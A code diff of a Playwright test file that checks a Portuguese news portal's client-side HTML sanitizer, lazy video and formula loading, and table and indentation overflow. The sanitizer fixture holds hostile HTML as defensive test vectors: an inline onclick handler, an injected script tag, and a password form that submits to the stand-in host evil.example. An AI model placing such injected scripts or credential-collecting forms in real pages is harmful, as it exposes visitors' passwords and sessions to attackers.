@@ -4,7 +4,6 @@ import { MAIN } from './mainTag'
 import { answerWith, readNoticia } from './noticiaWithText'
 import { alive, expect, test } from './portalTest'
 
-/** What an API that cleans nothing might send, and what of that the page may show. */
 const SENT = `
   <p id="primeiro" onclick="x()" style="text-align: center; position: fixed">Um parágrafo</p>
   <script>window.invaded = 'script'</script>
@@ -16,12 +15,10 @@ const SENT = `
   <form action="https://evil.example/"><input name="senha"><button>Enviar dados</button></form>
   <ul><li>Um item</li></ul>`
 
-// The browser reports the event handlers that it blocks, until the sanitizer has removed them.
+// The browser reports blocked handlers before the sanitizer removes them.
 test.use({ expectedComplaints: [/inline event handler violates/] })
 
-test('rich text is made safe in the browser too, even where the API does not clean it', { tag: MAIN }, async ({
-  page,
-}) => {
+test('the browser sanitizes rich text of an API that does not', { tag: MAIN }, async ({ page }) => {
   await answerWith(page, SENT)
   await page.goto('/noticias')
   await alive(page)
@@ -41,10 +38,10 @@ test('rich text is made safe in the browser too, even where the API does not cle
 })
 
 test.describe('the sanitizer', () => {
-  // The browser reports the styles and scripts that it blocks when it parses the hostile texts.
+  // The browser reports blocked styles and scripts while it parses the hostile texts.
   test.use({ expectedComplaints: [/violates the following Content Security Policy/] })
 
-  test('comes with the first text, and makes of each what the server would', async ({ page }) => {
+  test('loads with the first text and equals the server’s results', async ({ page }) => {
     const asked: string[] = []
     page.on('request', (request) => asked.push(request.url()))
     await page.goto('/')
@@ -57,7 +54,7 @@ test.describe('the sanitizer', () => {
     const others = await page.evaluate(
       async ({ sanitizer = '', vectors }) => {
         const { sanitizeToRender } = await import(sanitizer)
-        // As it stands: a text that is parsed without a policy passes the sanitizer of the page.
+        // A pass-through policy, because the page's own one sanitizes.
         const asIs = window.trustedTypes?.createPolicy('portal-inert', { createHTML: (html) => html })
         const read = (html: string) =>
           new DOMParser().parseFromString(asIs?.createHTML(`<body>${html}`) ?? '', 'text/html')
@@ -78,7 +75,7 @@ const TABELA = `<table dir="rtl"><tr>${'<td>Uma-palavra-bem-comprida</td>'.repea
 test.describe('a video', () => {
   test.use({ expectedComplaints: [/youtube-nocookie\.com/] })
 
-  test('comes from its host when the visitor asks, and not before', async ({ page }) => {
+  test('contacts its host only on request', async ({ page }) => {
     const asked: string[] = []
     await page.route('https://www.youtube-nocookie.com/**', (route) => {
       asked.push(route.request().url())
@@ -95,7 +92,7 @@ test.describe('a video', () => {
   })
 })
 
-test('a formula is drawn with fonts of the portal, which come with it alone', async ({ page }) => {
+test('a formula is drawn with the portal’s fonts, which load only with it', async ({ page }) => {
   const asked: string[] = []
   page.on('request', (request) => asked.push(request.url()))
   await readNoticia(page, FORMULA)
@@ -108,7 +105,7 @@ test('a formula is drawn with fonts of the portal, which come with it alone', as
   )
 })
 
-test('a text without a formula brings nothing to draw one with', async ({ page }) => {
+test('a text without a formula loads no formula code', async ({ page }) => {
   const asked: string[] = []
   page.on('request', (request) => asked.push(request.url()))
   await readNoticia(page, '<p>Só um parágrafo</p>')
@@ -116,7 +113,7 @@ test('a text without a formula brings nothing to draw one with', async ({ page }
   expect(asked.filter((url) => /katex/i.test(url))).toEqual([])
 })
 
-test('a wide table scrolls in its own box, by keyboard too', async ({ page }) => {
+test('a wide table scrolls in its own box, also by keyboard', async ({ page }) => {
   await page.setViewportSize({ width: 320, height: 640 })
   await readNoticia(page, TABELA)
   const box = page.getByRole('region', { name: 'Tabela' })
@@ -125,16 +122,25 @@ test('a wide table scrolls in its own box, by keyboard too', async ({ page }) =>
   expect(await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)).toBeLessThanOrEqual(0)
 })
 
-/** As large as a text may ask for, and larger. */
-const INDENTED = `${'<div style="margin-left:25rem">'.repeat(2)}<p>Longe à direita</p></div></div>`
+const INDENTED = `${'<div style="margin-left:15rem">'.repeat(2)}<p>Longe à direita</p></div></div>`
 const HUGE = `<p>Do começo</p>${'<div style="font-size:1000%;margin-left:25rem">'.repeat(60)}Enorme${'</div>'.repeat(60)}`
+
+test('on a wide screen content stays within the text, despite indents and blanks', async ({ page }) => {
+  await readNoticia(page, `${INDENTED}<pre>Antes${' '.repeat(3_000)}Depois</pre>`)
+  await expect(page.getByText('Longe à direita')).toBeVisible()
+  const hidden = await page.getByText('Depois').evaluate((code) => {
+    const text = code.parentElement as HTMLElement
+    return [text, code].map(({ scrollWidth, clientWidth }) => scrollWidth - clientWidth)
+  })
+  expect(hidden).toEqual([0, 0])
+})
 
 test.describe('on a phone', () => {
   test.use({ viewport: { width: 390, height: 844 } })
 
   const excessWidth = (page: Page) => page.evaluate(() => document.documentElement.scrollWidth - innerWidth)
 
-  test('a text that is indented far scrolls by itself, by keyboard too, and the page does not', async ({ page }) => {
+  test('a deeply indented text scrolls itself, also by keyboard, without the page', async ({ page }) => {
     await readNoticia(page, INDENTED)
     const text = page.getByRole('region', { name: 'Texto' })
     await expect(text).toHaveAttribute('tabindex', '0')
@@ -142,7 +148,7 @@ test.describe('on a phone', () => {
     expect(await excessWidth(page)).toBeLessThanOrEqual(0)
   })
 
-  test('sizes that multiply each other make no page without an end', async ({ page }) => {
+  test('multiplied sizes do not make an endless page', async ({ page }) => {
     await readNoticia(page, HUGE)
     await expect(page.getByText('Enorme')).toBeVisible()
     expect(await excessWidth(page)).toBeLessThanOrEqual(0)
